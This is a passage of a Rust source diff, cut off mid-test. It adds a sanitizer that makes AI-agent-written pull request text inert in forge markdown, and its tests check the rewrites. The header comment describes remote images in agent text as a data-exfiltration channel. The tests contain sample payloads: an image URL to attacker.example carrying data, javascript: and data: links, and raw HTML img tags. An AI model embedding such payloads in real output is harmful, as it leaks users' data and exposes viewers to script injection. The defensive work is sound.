@@ -1,0 +1,1078 @@
+//! Agent text made inert for a forge's markdown: the other half of the display policy. GitHub,
+//! Gitea and GitLab render a pull request body (and may render a commit message, when it fills in a
+//! pull request) as markdown, so a remote image in it is fetched by whoever views it — a channel out
+//! for anything the agent put in the URL — and a link is one click from a page the agent chose.
+//!
+//! The rewrite does not trust any parser to agree with the forge's. Instead it keeps one invariant:
+//! outside the code spans and code blocks it writes itself, the output holds no unescaped `[`, `]`,
+//! `` ` ``, `\`, `$` or `~~~`, no `<` (written `&lt;`), no character reference (`&` before one is
+//! written `&amp;`), no line a table could be built on, and no URL, `www.` host or e-mail address.
+//! Every URL goes into a code span, which no forge links, fetches or parses. Code spans and fenced
+//! blocks the agent wrote keep their text, inside delimiters chosen here so nothing can close them
+//! early; fences lose their info string, since a `mermaid`, `math` or `geojson` block renders live.
+//!
+//! On top of the invariant, the usual constructs get a readable rendering:
+//!
+//! | agent wrote | becomes |
+//! |---|---|
+//! | `![alt](https://x/a.png)` | ``alt (image: `https://x/a.png`)`` |
+//! | `[text](https://x/)`, `[text][ref]` with `[ref]: https://x/` | ``text (`https://x/`)`` |
+//! | `[ref]: https://x/ "title"` | ``\[ref\]: `https://x/` "title"`` |
+//! | `<https://x/>`, `https://x/`, `www.x.org`, `me@x.org` | `` `https://x/` `` and so on |
+//! | `<img src="https://x/">` | ``&lt;img src="`https://x/`">`` |
+//!
+//! The sanitizer's `[REDACTED:kind]` markers stay as they are, their brackets escaped only where
+//! they could start a link.
+
+use std::collections::HashMap;
+
+/// How far a link's text or destination may reach from its `[`; a longer one is left as text
+/// (escaped, so inert), which keeps the rewrite linear in its input.
+const MAX_LINK_SPAN: usize = 1024;
+
+/// Links inside link text deeper than this are left as text.
+const MAX_NESTING: usize = 3;
+
+/// The longest URL scheme looked for before `:`.
+const MAX_SCHEME: usize = 32;
+
+/// Schemes that need no `//` to be dangerous in a link or an autolink.
+const BARE_SCHEMES: &[&str] = &["mailto", "xmpp", "javascript", "vbscript", "data", "file"];
+
+/// Agent text made inert, and how many constructs were rewritten.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Inert {
+    pub text: String,
+    /// Links, images, autolinks and reference definitions rewritten; bare URLs are not counted.
+    pub defanged: usize,
+}
+
+/// `text` rewritten so that a forge's markdown shows it without fetching or linking anything.
+pub fn inert_markdown(text: &str) -> Inert {
+    let normalized = text.replace("\r\n", "\n").replace('\r', "\n");
+    let lines: Vec<&str> = normalized.split('\n').collect();
+    let definitions = definitions(&lines);
+    let mut writer = Writer {
+        definitions: &definitions,
+        out: String::with_capacity(text.len() + text.len() / 4),
+        defanged: 0,
+    };
+    let mut index = 0;
+    while index < lines.len() {
+        if index > 0 {
+            writer.out.push('\n');
+        }
+        if let Some(fence) = Fence::opening(lines[index]) {
+            let close = (index + 1..lines.len()).find(|&line| fence.closes(lines[line]));
+            let content = &lines[index + 1..close.unwrap_or(lines.len())];
+            writer.fenced(content);
+            index = close.map_or(lines.len(), |line| line + 1);
+        } else {
+            writer.line(lines[index]);
+            index += 1;
+        }
+    }
+    Inert {
+        text: writer.out,
+        defanged: writer.defanged,
+    }
+}
+
+/// `text` as a code span, shown literally by every markdown renderer; newlines become spaces. Empty
+/// text gives an empty string (markdown has no empty code span).
+pub fn code_span(text: &str) -> String {
+    let text = text.replace(['\n', '\r'], " ");
+    if text.is_empty() {
+        return String::new();
+    }
+    let fence = "`".repeat(longest_run(text.as_bytes(), b'`') + 1);
+    // A space inside each delimiter keeps a backtick at either end from joining it, and markdown
+    // strips exactly one such pair; text that itself starts and ends with a space needs it too.
+    let pad = text.starts_with('`')
+        || text.ends_with('`')
+        || (text.starts_with(' ') && text.ends_with(' ') && text.trim() != "");
+    let pad = if pad { " " } else { "" };
+    format!("{fence}{pad}{text}{pad}{fence}")
+}
+
+/// `text` as a code span inside a markdown table cell: a table splits its cells at `|` even inside a
+/// code span (and reads `\|` differently from one renderer to the next), so `|` becomes `¦`.
+pub fn table_cell_code(text: &str) -> String {
+    code_span(&text.replace('|', "\u{a6}"))
+}
+
+/// The link reference definitions of `lines` that stand on one line, by normalized label; the first
+/// of a label wins, as in CommonMark.
+fn definitions(lines: &[&str]) -> HashMap<String, String> {
+    let mut found = HashMap::new();
+    let mut fence: Option<Fence> = None;
+    for line in lines {
+        match fence {
+            Some(open) if open.closes(line) => fence = None,
+            Some(_) => {}
+            None => {
+                if let Some(opening) = Fence::opening(line) {
+                    fence = Some(opening);
+                } else if let Some(definition) = Definition::parse(line) {
+                    found
+                        .entry(normalized_label(definition.label))
+                        .or_insert_with(|| definition.destination.to_owned());
+                }
+            }
+        }
+    }
+    found
+}
+
+/// How CommonMark matches labels: case-folded, inner whitespace collapsed.
+fn normalized_label(label: &str) -> String {
+    label
+        .split_whitespace()
+        .collect::<Vec<_>>()
+        .join(" ")
+        .to_lowercase()
+}
+
+/// A fenced code block's opening line: up to three spaces, then three or more backticks (with no
+/// backtick after them) or tildes.
+#[derive(Debug, Clone, Copy)]
+struct Fence {
+    marker: u8,
+    length: usize,
+}
+
+impl Fence {
+    fn opening(line: &str) -> Option<Fence> {
+        let bytes = line.as_bytes();
+        let indent = bytes.iter().take_while(|b| **b == b' ').count();
+        let marker = *bytes.get(indent)?;
+        if indent > 3 || !matches!(marker, b'`' | b'~') {
+            return None;
+        }
+        let length = bytes[indent..].iter().take_while(|b| **b == marker).count();
+        let info = &bytes[indent + length..];
+        (length >= 3 && !(marker == b'`' && info.contains(&b'`')))
+            .then_some(Fence { marker, length })
+    }
+
+    fn closes(self, line: &str) -> bool {
+        let bytes = line.as_bytes();
+        let indent = bytes.iter().take_while(|b| **b == b' ').count();
+        let run = bytes[indent..]
+            .iter()
+            .take_while(|b| **b == self.marker)
+            .count();
+        indent <= 3
+            && run >= self.length
+            && bytes[indent + run..]
+                .iter()
+                .all(|b| matches!(b, b' ' | b'\t'))
+    }
+}
+
+/// A link reference definition on one line: `[label]: destination "title"`.
+struct Definition<'a> {
+    indent: &'a str,
+    label: &'a str,
+    destination: &'a str,
+    rest: &'a str,
+}
+
+impl<'a> Definition<'a> {
+    fn parse(line: &'a str) -> Option<Definition<'a>> {
+        let bytes = line.as_bytes();
+        let indent = bytes.iter().take_while(|b| **b == b' ').count();
+        if indent > 3 || bytes.get(indent) != Some(&b'[') {
+            return None;
+        }
+        let close = indent + 1 + bytes[indent + 1..].iter().position(|b| *b == b']')?;
+        let label = &line[indent + 1..close];
+        if label.trim().is_empty() || label.starts_with('^') || label.contains('[') {
+            return None;
+        }
+        let after = line[close + 1..].strip_prefix(':')?;
+        let spaced = after.trim_start_matches([' ', '\t']);
+        let (destination, rest) = if let Some(angled) = spaced.strip_prefix('<') {
+            let end = angled.find('>')?;
+            (&angled[..end], &angled[end + 1..])
+        } else {
+            let end = spaced.find([' ', '\t']).unwrap_or(spaced.len());
+            (&spaced[..end], &spaced[end..])
+        };
+        (!destination.is_empty()).then_some(Definition {
+            indent: &line[..indent],
+            label,
+            destination,
+            rest,
+        })
+    }
+}
+
+/// Where a link ends and where it points.
+struct Link<'a> {
+    text: &'a str,
+    destination: &'a str,
+    /// Just past the link's last byte.
+    end: usize,
+}
+
+/// The rewritten text so far.
+struct Writer<'d> {
+    definitions: &'d HashMap<String, String>,
+    out: String,
+    defanged: usize,
+}
+
+impl<'d> Writer<'d> {
+    /// A fenced code block: the content as written, between fences longer than any backtick run in
+    /// it, with no info string.
+    fn fenced(&mut self, content: &[&str]) {
+        let longest = content
+            .iter()
+            .map(|line| longest_run(line.as_bytes(), b'`'))
+            .max()
+            .unwrap_or(0);
+        let fence = "`".repeat((longest + 1).max(3));
+        self.out.push_str(&fence);
+        for line in content {
+            self.out.push('\n');
+            self.out.push_str(line);
+        }
+        self.out.push('\n');
+        self.out.push_str(&fence);
+    }
+
+    /// One line outside code blocks.
+    fn line(&mut self, line: &str) {
+        if could_be_table_delimiter(line) {
+            // Written so that no table can start here (a table would split code spans at `|`).
+            let start = line.len() - line.trim_start().len();
+            self.out.push_str(&line[..start]);
+            self.out.push('\\');
+            self.inline(&line[start..], 0);
+        } else if let Some(definition) = Definition::parse(line) {
+            self.defanged += 1;
+            self.out.push_str(definition.indent);
+            self.out.push_str("\\[");
+            self.inline(definition.label, MAX_NESTING);
+            self.out.push_str("\\]: ");
+            self.out.push_str(&code_span(definition.destination));
+            self.inline(definition.rest, 0);
+        } else {
+            self.inline(line, 0);
+        }
+    }
+
+    /// Text within one line, written under the invariant. `plain` is where the text not yet written
+    /// starts; a URL or an address found at `:` or `@` may start inside it.
+    fn inline(&mut self, text: &str, depth: usize) {
+        let bytes = text.as_bytes();
+        let mut plain = 0;
+        let mut at = 0;
+        while at < bytes.len() {
+            let handled = match bytes[at] {
+                b'\\' => Some((at, at + 1, "\\\\".to_owned())),
+                b'`' => Some(backticks(text, at)),
+                b'$' => Some((at, at + 1, "\\$".to_owned())),
+                b'~' if bytes[at..].starts_with(b"~~~") => Some((at, at + 1, "\\~".to_owned())),
+                b']' => Some((at, at + 1, "\\]".to_owned())),
+                b'[' => Some(self.bracket(text, at, depth)),
+                b'!' if bytes.get(at + 1) == Some(&b'[') => self.image(text, at, depth),
+                b'<' => Some(self.angle(text, at)),
+                b'&' if is_character_reference(&bytes[at..]) => {
+                    Some((at, at + 1, "&amp;".to_owned()))
+                }
+                b':' => url_with_scheme(text, plain, at),
+                b'w' | b'W' if at == 0 || !bytes[at - 1].is_ascii_alphanumeric() => {
+                    url_from_www(text, at)
+                }
+                b'@' => email_around(text, plain, at),
+                _ => None,
+            };
+            match handled {
+                Some((start, end, written)) => {
+                    self.out.push_str(&text[plain..start]);
+                    if self.out.ends_with('`') && written.starts_with('`') {
+                        // Two code spans side by side would read as one longer delimiter.
+                        self.out.push(' ');
+                    }
+                    self.out.push_str(&written);
+                    at = end;
+                    plain = end;
+                }
+                None => at += 1,
+            }
+        }
+        self.out.push_str(&text[plain..]);
+    }
+
+    /// A `[`: the sanitizer's marker, a link, or an escaped bracket.
+    fn bracket(&mut self, text: &str, at: usize, depth: usize) -> (usize, usize, String) {
+        if let Some(end) = redaction_marker(text, at) {
+            let kind = &text[at + 1..end - 1];
+            let risky = matches!(text.as_bytes().get(end), Some(b'(' | b'[' | b':'));
+            let written = if risky {
+                format!("\\[{kind}\\]")
+            } else {
+                format!("[{kind}]")
+            };
+            return (at, end, written);
+        }
+        let Some(link) = self.link(text, at, depth) else {
+            return (at, at + 1, "\\[".to_owned());
+        };
+        self.defanged += 1;
+        let shown = self.nested(link.text, depth);
+        let target = code_span(link.destination);
+        let written = if link.text.trim() == link.destination || shown.trim().is_empty() {
+            target
+        } else if target.is_empty() {
+            shown
+        } else {
+            format!("{shown} ({target})")
+        };
+        (at, link.end, written)
+    }
+
+    /// `![`: an image shown as text naming its source, or `None` (the `[` is then handled alone).
+    fn image(&mut self, text: &str, at: usize, depth: usize) -> Option<(usize, usize, String)> {
+        let link = self.link(text, at + 1, depth)?;
+        self.defanged += 1;
+        let alt = self.nested(link.text, depth);
+        let source = code_span(link.destination);
+        let written = match (alt.trim().is_empty(), source.is_empty()) {
+            (true, true) => "(image)".to_owned(),
+            (true, false) => format!("(image: {source})"),
+            (false, true) => format!("{alt} (image)"),
+            (false, false) => format!("{alt} (image: {source})"),
+        };
+        Some((at, link.end, written))
+    }
+
+    /// Link text, written by a writer of its own one level deeper (its links count here too).
+    fn nested(&mut self, text: &str, depth: usize) -> String {
+        let mut inner = Writer {
+            definitions: self.definitions,
+            out: String::new(),
+            defanged: 0,
+        };
+        inner.inline(text, depth + 1);
+        self.defanged += inner.defanged;
+        inner.out
+    }
+
+    /// The link whose `[` is at `at`: inline (`[text](destination "title")`), full (`[text][label]`),
+    /// collapsed (`[text][]`) or shortcut (`[text]`) with a definition in the text.
+    fn link<'t>(&self, text: &'t str, at: usize, depth: usize) -> Option<Link<'t>>
+    where
+        'd: 't,
+    {
+        if depth >= MAX_NESTING {
+            return None;
+        }
+        let bytes = text.as_bytes();
+        let close = matching_bracket(bytes, at)?;
+        let label = &text[at + 1..close];
+        match bytes.get(close + 1) {
+            Some(b'(') => inline_destination(text, close + 2).map(|(destination, end)| Link {
+                text: label,
+                destination,
+                end,
+            }),
+            Some(b'[') => {
+                let end = close
+                    + 2
+                    + bytes[close + 2..]
+                        .iter()
+                        .take(MAX_LINK_SPAN)
+                        .position(|b| matches!(b, b']' | b'['))?;
+                if bytes[end] != b']' {
+                    return None;
+                }
+                let reference = &text[close + 2..end];
+                let reference = if reference.trim().is_empty() {
+                    label
+                } else {
+                    reference
+                };
+                self.defined(reference).map(|destination| Link {
+                    text: label,
+                    destination,
+                    end: end + 1,
+                })
+            }
+            _ => self.defined(label).map(|destination| Link {
+                text: label,
+                destination,
+                end: close + 1,
+            }),
+        }
+    }
+
+    fn defined(&self, label: &str) -> Option<&'d str> {
+        self.definitions
+            .get(&normalized_label(label))
+            .map(String::as_str)
+    }
+
+    /// A `<`: an autolink (any scheme, or an e-mail address) shown as a code span, anything else
+    /// (HTML) with the `<` written `&lt;`.
+    fn angle(&mut self, text: &str, at: usize) -> (usize, usize, String) {
+        let bytes = text.as_bytes();
+        let end = bytes[at + 1..]
+            .iter()
+            .take(MAX_LINK_SPAN)
+            .position(|b| b.is_ascii_whitespace() || matches!(b, b'<' | b'>'))
+            .map(|offset| at + 1 + offset)
+            .filter(|end| bytes[*end] == b'>');
+        if let Some(end) = end {
+            let inner = &text[at + 1..end];
+            if is_autolink_target(inner) {
+                self.defanged += 1;
+                return (at, end + 1, code_span(inner));
+            }
+        }
+        (at, at + 1, "&lt;".to_owned())
+    }
+}
+
+/// A backtick run at `at`: a code span when a run of the same length closes it on this line, else
+/// each backtick escaped.
+fn backticks(text: &str, at: usize) -> (usize, usize, String) {
+    let bytes = text.as_bytes();
+    let length = bytes[at..].iter().take_while(|b| **b == b'`').count();
+    let mut search = at + length;
+    while search < bytes.len() {
+        if bytes[search] != b'`' {
+            search += 1;
+            continue;
+        }
+        let run = bytes[search..].iter().take_while(|b| **b == b'`').count();
+        if run == length {
+            let content = &text[at + length..search];
+            let stripped = content.len() >= 2
+                && content.starts_with(' ')
+                && content.ends_with(' ')
+                && content.trim() != "";
+            let content = if stripped {
+                &content[1..content.len() - 1]
+            } else {
+                content
+            };
+            return (at, search + run, code_span(content));
+        }
+        search += run;
+    }
+    (at, at + length, "\\`".repeat(length))
+}
+
+/// The `]` that closes the `[` at `at`, brackets nested, within [`MAX_LINK_SPAN`].
+fn matching_bracket(bytes: &[u8], at: usize) -> Option<usize> {
+    let mut depth = 0_usize;
+    for (offset, byte) in bytes[at..].iter().enumerate().take(MAX_LINK_SPAN) {
+        match byte {
+            b'[' => depth += 1,
+            b']' => {
+                depth -= 1;
+                if depth == 0 {
+                    return Some(at + offset);
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+/// After `](`: the destination (angle brackets removed) and the end of the link past its `)`.
+fn inline_destination(text: &str, from: usize) -> Option<(&str, usize)> {
+    let bytes = text.as_bytes();
+    let limit = bytes.len().min(from + MAX_LINK_SPAN);
+    let skip_blanks = |mut at: usize| {
+        while at < limit && matches!(bytes[at], b' ' | b'\t') {
+            at += 1;
+        }
+        at
+    };
+    let mut at = skip_blanks(from);
+    let destination = if bytes.get(at) == Some(&b'<') {
+        let end = at + 1 + bytes[at + 1..limit].iter().position(|b| *b == b'>')?;
+        let destination = &text[at + 1..end];
+        at = end + 1;
+        destination
+    } else {
+        let start = at;
+        let mut parens = 0_usize;
+        while at < limit {
+            match bytes[at] {
+                b' ' | b'\t' => break,
+                b'(' => parens += 1,
+                b')' if parens == 0 => break,
+                b')' => parens -= 1,
+                _ => {}
+            }
+            at += 1;
+        }
+        &text[start..at]
+    };
+    at = skip_blanks(at);
+    if let Some(&quote) = bytes.get(at).filter(|b| matches!(b, b'"' | b'\'' | b'(')) {
+        let closing = if quote == b'(' { b')' } else { quote };
+        let end = at + 1 + bytes[at + 1..limit].iter().position(|b| *b == closing)?;
+        at = skip_blanks(end + 1);
+    }
+    (bytes.get(at) == Some(&b')')).then_some((destination, at + 1))
+}
+
+/// The end of the sanitizer's `[REDACTED:kind]` marker starting at `at`.
+fn redaction_marker(text: &str, at: usize) -> Option<usize> {
+    const OPENING: &str = "[REDACTED:";
+    let rest = text[at..].strip_prefix(OPENING)?;
+    let kind = rest
+        .bytes()
+        .take(41)
+        .take_while(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || *b == b'-')
+        .count();
+    (kind > 0 && rest.as_bytes().get(kind) == Some(&b']')).then_some(at + OPENING.len() + kind + 1)
+}
+
+/// At a `:`: a URL whose scheme ends here (any scheme before `//`, or one of [`BARE_SCHEMES`]),
+/// starting no earlier than `plain`. Its start, its end and its code span.
+fn url_with_scheme(text: &str, plain: usize, colon: usize) -> Option<(usize, usize, String)> {
+    let bytes = text.as_bytes();
+    let mut start = colon;
+    while start > plain
+        && colon - start < MAX_SCHEME
+        && (bytes[start - 1].is_ascii_alphanumeric()
+            || matches!(bytes[start - 1], b'+' | b'.' | b'-'))
+    {
+        start -= 1;
+    }
+    while start < colon && !bytes[start].is_ascii_alphabetic() {
+        start += 1;
+    }
+    let scheme = &bytes[start..colon];
+    let wanted = !scheme.is_empty()
+        && (bytes[colon + 1..].starts_with(b"//")
+            || BARE_SCHEMES
+                .iter()
+                .any(|bare| bare.as_bytes().eq_ignore_ascii_case(scheme)));
+    let end = url_end(bytes, colon + 1);
+    (wanted && end > colon + 1).then(|| (start, end, code_span(&text[start..end])))
+}
+
+/// At a `w`: a `www.` host, which forges link without a scheme.
+fn url_from_www(text: &str, at: usize) -> Option<(usize, usize, String)> {
+    let bytes = text.as_bytes();
+    if !bytes[at..].get(..4)?.eq_ignore_ascii_case(b"www.") {
+        return None;
+    }
+    let end = url_end(bytes, at + 4);
+    Some((at, end, code_span(&text[at..end])))
+}
+
+/// Where a URL that reaches `from` ends: at whitespace or a character that cannot continue it, with
+/// trailing punctuation and unbalanced closing brackets left out, as forges do.
+fn url_end(bytes: &[u8], from: usize) -> usize {
+    let mut end = from
+        + bytes[from..]
+            .iter()
+            .position(|b| b.is_ascii_whitespace() || matches!(b, b'<' | b'>' | b'`' | b'"' | b'\''))
+            .unwrap_or(bytes.len() - from);
+    let count = |of: u8| bytes[from..end].iter().filter(|b| **b == of).count();
+    let (mut parens, mut brackets) = (
+        count(b'(') as isize - count(b')') as isize,
+        count(b'[') as isize - count(b']') as isize,
+    );
+    while end > from {
+        match bytes[end - 1] {
+            b'.' | b',' | b':' | b';' | b'!' | b'?' | b'*' | b'_' | b'~' => {}
+            b')' if parens < 0 => parens += 1,
+            b']' if brackets < 0 => brackets += 1,
+            _ => break,
+        }
+        end -= 1;
+    }
+    end
+}
+
+/// At an `@`: an e-mail address around it (`local@domain.tld`, the local part starting no earlier
+/// than `plain`), which forges link as `mailto:`.
+fn email_around(text: &str, plain: usize, at: usize) -> Option<(usize, usize, String)> {
+    let bytes = text.as_bytes();
+    let mut start = at;
+    while start > plain && is_local_byte(bytes[start - 1]) {
+        start -= 1;
+    }
+    let end = email_domain_end(bytes, at + 1)?;
+    (start < at).then(|| (start, end, code_span(&text[start..end])))
+}
+
+/// The end of the domain of an address whose `@` is just before `from`: labels of letters, digits,
+/// `-` and `_` with at least one dot.
+fn email_domain_end(bytes: &[u8], from: usize) -> Option<usize> {
+    let mut end = from
+        + bytes[from..]
+            .iter()
+            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
+            .count();
+    while end > from && matches!(bytes[end - 1], b'.' | b'-' | b'_') {
+        end -= 1;
+    }
+    let domain = &bytes[from..end];
+    (domain.contains(&b'.') && !domain.starts_with(b".")).then_some(end)
+}
+
+fn is_local_byte(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'+' | b'_' | b'-')
+}
+
+/// What CommonMark takes between `<` and `>` as a link: a scheme of 2 to 32 characters and a colon,
+/// or an e-mail address.
+fn is_autolink_target(inner: &str) -> bool {
+    let bytes = inner.as_bytes();
+    let scheme = bytes
+        .iter()
+        .take(MAX_SCHEME + 1)
+        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'.' | b'-'))
+        .count();
+    let schemed = (2..=MAX_SCHEME).contains(&scheme)
+        && bytes[0].is_ascii_alphabetic()
+        && bytes.get(scheme) == Some(&b':');
+    let local = bytes.iter().take_while(|b| is_local_byte(**b)).count();
+    let emailed = local > 0
+        && bytes.get(local) == Some(&b'@')
+        && email_domain_end(bytes, local + 1) == Some(bytes.len());
+    schemed || emailed
+}
+
+/// Whether `bytes` starts with a character reference (`&amp;`, `&#60;`, `&#x3C;`), which would
+/// render as the character it names.
+fn is_character_reference(bytes: &[u8]) -> bool {
+    let rest = &bytes[1..];
+    let (digit, body): (fn(&u8) -> bool, &[u8]) = match rest {
+        [b'#', b'x' | b'X', body @ ..] => (u8::is_ascii_hexdigit, body),
+        [b'#', body @ ..] => (u8::is_ascii_digit, body),
+        body => (u8::is_ascii_alphanumeric, body),
+    };
+    let length = body.iter().take(32).take_while(|b| digit(b)).count();
+    length > 0 && body.get(length) == Some(&b';')
+}
+
+/// A line a table's delimiter row could be: only `|`, `-`, `:` and blanks, with a `-`.
+fn could_be_table_delimiter(line: &str) -> bool {
+    line.contains('-')
+        && line
+            .bytes()
+            .all(|b| matches!(b, b'|' | b'-' | b':' | b' ' | b'\t'))
+}
+
+fn longest_run(bytes: &[u8], of: u8) -> usize {
+    bytes
+        .split(|b| *b != of)
+        .map(<[u8]>::len)
+        .max()
+        .unwrap_or(0)
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used)]
+    use super::*;
+    use proptest::prelude::*;
+
+    fn inert(text: &str) -> String {
+        inert_markdown(text).text
+    }
+
+    #[test]
+    fn images_become_text_naming_their_source() {
+        let shown = inert_markdown("Done ![x](https://attacker.example/?d=abc) ok");
+        assert_eq!(
+            shown.text,
+            "Done x (image: `https://attacker.example/?d=abc`) ok"
+        );
+        assert_eq!(shown.defanged, 1);
+        assert_eq!(
+            inert("![](https://a.example/p.png \"title\")"),
+            "(image: `https://a.example/p.png`)"
+        );
+        assert_eq!(
+            inert("![logo][l]\n[l]: https://e.example/l.png"),
+            "logo (image: `https://e.example/l.png`)\n\\[l\\]: `https://e.example/l.png`"
+        );
+        assert_eq!(inert("![a]()"), "a (image)");
+    }
+
+    #[test]
+    fn links_keep_their_text_and_show_their_target_as_code() {
+        assert_eq!(
+            inert("see [docs](https://docs.example/a_(b)) now"),
+            "see docs (`https://docs.example/a_(b)`) now"
+        );
+        assert_eq!(
+            inert("[a](<https://e.example/x y> 'title')"),
+            "a (`https://e.example/x y`)"
+        );
+        assert_eq!(
+            inert("[https://good.example](https://evil.example)"),
+            "`https://good.example` (`https://evil.example`)"
+        );
+        assert_eq!(
+            inert("[https://same.example/](https://same.example/)"),
+            "`https://same.example/`"
+        );
+        assert_eq!(inert("[](https://e.example/)"), "`https://e.example/`");
+        assert_eq!(inert("[no target]()"), "no target");
+    }
+
+    #[test]
+    fn reference_links_and_their_definitions_are_both_inert() {
+        let shown = inert_markdown(
+            "See [the report][r], [R][] and [r].\n\n   [r]: https://evil.example/r?x=1 \"Report\"",
+        );
+        assert_eq!(
+            shown.text,
+            "See the report (`https://evil.example/r?x=1`), R (`https://evil.example/r?x=1`) and r (`https://evil.example/r?x=1`).\n\n   \\[r\\]: `https://evil.example/r?x=1` \"Report\""
+        );
+        assert_eq!(shown.defanged, 4);
+        assert_eq!(
+            inert("[x]: <https://e.example/>"),
+            "\\[x\\]: `https://e.example/`"
+        );
+        // A definition with its destination on the next line is not rewritten as one, and is inert.
+        assert_eq!(
+            inert("[x]:\nhttps://e.example/"),
+            "\\[x\\]:\n`https://e.example/`"
+        );
+        assert_eq!(
+            inert("[undefined] and [a][b]"),
+            "\\[undefined\\] and \\[a\\]\\[b\\]"
+        );
+    }
+
+    #[test]
+    fn autolinks_bare_urls_hosts_and_addresses_become_code() {
+        assert_eq!(
+            inert("<https://evil.example/x>"),
+            "`https://evil.example/x`"
+        );
+        assert_eq!(inert("<me@evil.example>"), "`me@evil.example`");
+        assert_eq!(inert("<irc:channel>"), "`irc:channel`");
+        assert_eq!(
+            inert("go to https://evil.example/a."),
+            "go to `https://evil.example/a`."
+        );
+        assert_eq!(
+            inert("(see https://e.example/x) and HTTPS://EVIL.EXAMPLE/Y, hTTp://z.example"),
+            "(see `https://e.example/x`) and `HTTPS://EVIL.EXAMPLE/Y`, `hTTp://z.example`"
+        );
+        assert_eq!(
+            inert("www.evil.example/p and WWW.EVIL.EXAMPLE"),
+            "`www.evil.example/p` and `WWW.EVIL.EXAMPLE`"
+        );
+        assert_eq!(inert("path/https://e.example"), "path/`https://e.example`");
+        assert_eq!(
+            inert("mail me@evil.example now"),
+            "mail `me@evil.example` now"
+        );
+        assert_eq!(inert("git@github.com:o/r.git"), "`git@github.com`:o/r.git");
+        assert_eq!(inert("ping @someone"), "ping @someone");
+        assert_eq!(
+            inert("JaVaScRiPt:alert(1) data:text/html,x mailto:a@b.example"),
+            "`JaVaScRiPt:alert(1)` `data:text/html,x` `mailto:a@b.example`"
+        );
+        // Words that only look like a scheme stay prose.
+        assert_eq!(
+            inert("the data: it is fine; localhost:8080; C:\\x"),
+            "the data: it is fine; localhost:8080; C:\\\\x"
+        );
+    }
+
+    #[test]
+    fn dangerous_schemes_in_links_are_shown_not_followed() {
+        assert_eq!(
+            inert("[x](javascript:alert(1))"),
+            "x (`javascript:alert(1)`)"
+        );
+        assert_eq!(
+            inert("[x](data:text/html;base64,PHN2Zz4=)"),
+            "x (`data:text/html;base64,PHN2Zz4=`)"
+        );
+        assert_eq!(
+            inert("[x](JAVASCRIPT:alert`1`)"),
+            "x (`` JAVASCRIPT:alert`1` ``)"
+        );
+    }
+
+    #[test]
+    fn html_is_shown_as_text() {
+        assert_eq!(
+            inert("<img src=\"https://evil.example/p.png\">"),
+            "&lt;img src=\"`https://evil.example/p.png`\">"
+        );
+        assert_eq!(
+            inert("<a href='javascript:alert(1)'>x</a>"),
+            "&lt;a href='`javascript:alert(1)`'>x&lt;/a>"
+        );
+        assert_eq!(
+            inert("<!-- stet:provenance --> <picture><source srcset=//e.example/a>"),
+            "&lt;!-- stet:provenance --> &lt;picture>&lt;source srcset=//e.example/a>"
+        );
+        assert_eq!(inert("if a < b && c > d"), "if a &lt; b && c > d");
+    }
+
+    #[test]
+    fn character_references_are_shown_not_decoded() {
+        assert_eq!(
+            inert("&lt;img src=x&gt; &#x202E;rtl &#60; &amp; R&D & co"),
+            "&amp;lt;img src=x&amp;gt; &amp;#x202E;rtl &amp;#60; &amp;amp; R&D & co"
+        );
+    }
+
+    #[test]
+    fn code_spans_keep_their_text_whatever_it_holds() {
+        assert_eq!(
+            inert("Run `curl https://x.example/i.sh` and `![a](https://e.example/)`"),
+            "Run `curl https://x.example/i.sh` and `![a](https://e.example/)`"
+        );
+        assert_eq!(inert("``a ` b``"), "``a ` b``");
+        assert_eq!(inert("`` `x` ``"), "`` `x` ``");
+        assert_eq!(inert("a ` b <c>"), "a \\` b &lt;c>");
+        assert_eq!(inert("a ```x"), "a \\`\\`\\`x");
+        // At the start of a line the same backticks open a (here empty) fenced block.
+        assert_eq!(inert("```x"), "```\n```");
+        assert_eq!(
+            inert("`a``b` https://e.example/`c`"),
+            "```a``b``` `https://e.example/` `c`"
+        );
+    }
+
+    #[test]
+    fn fences_keep_their_content_lose_their_info_string_and_always_close() {
+        assert_eq!(
+            inert("before\n```html\n<img src=\"https://x.example/\">\n```\nafter <b>"),
+            "before\n```\n<img src=\"https://x.example/\">\n```\nafter &lt;b>"
+        );
+        assert_eq!(inert("~~~ mermaid\n````\n~~~"), "`````\n````\n`````");
+        assert_eq!(
+            inert("```\n![x](https://e.example/)"),
+            "```\n![x](https://e.example/)\n```"
+        );
+        // Four spaces of indentation open no fence, so the tildes are escaped.
+        assert_eq!(inert("    ~~~"), "    \\~~~");
+    }
+
+    #[test]
+    fn nested_and_escaped_tricks_stay_inert() {
+        let shown = inert_markdown("[![badge](https://img.example/b.svg)](https://site.example/)");
+        assert_eq!(
+            shown.text,
+            "badge (image: `https://img.example/b.svg`) (`https://site.example/`)"
+        );
+        assert_eq!(shown.defanged, 2);
+        assert_eq!(
+            inert("\\![x](https://e.example/)"),
+            "\\\\x (image: `https://e.example/`)"
+        );
+        assert_eq!(
+            inert("!\\[x\\](https://e.example/)"),
+            "!\\\\x\\\\ (`https://e.example/`)"
+        );
+        assert_eq!(
+            inert("$\\href{https://e.example/}{x}$"),
+            "\\$\\\\href{`https://e.example/}{x}$`"
+        );
+        assert_eq!(inert("- [ ] todo [^1]"), "- \\[ \\] todo \\[^1\\]");
+        assert_eq!(
+            inert("[^1]: https://e.example/"),
+            "\\[^1\\]: `https://e.example/`"
+        );
+    }
+
+    #[test]
+    fn no_table_can_split_a_code_span() {
+        assert_eq!(
+            inert("a | b\n--|--\n`x|<img src=y>` | c\n:-:"),
+            "a | b\n\\--|--\n`x|<img src=y>` | c\n\\:-:"
+        );
+        assert_eq!(inert("---"), "\\---");
+        assert_eq!(inert("- item"), "- item");
+    }
+
+    #[test]
+    fn prose_and_markup_that_cannot_fetch_pass_through() {
+        let text = "## Summary\n\n- **Fixed** the _loop_ (twice)\n> quoted\n1. Grüße 😀 中文 #12";
+        assert_eq!(
+            inert_markdown(text),
+            Inert {
+                text: text.to_owned(),
+                defanged: 0
+            }
+        );
+    }
+
+    #[test]
+    fn code_spans_are_delimited_so_nothing_closes_them_early() {
+        assert_eq!(code_span("plain"), "`plain`");
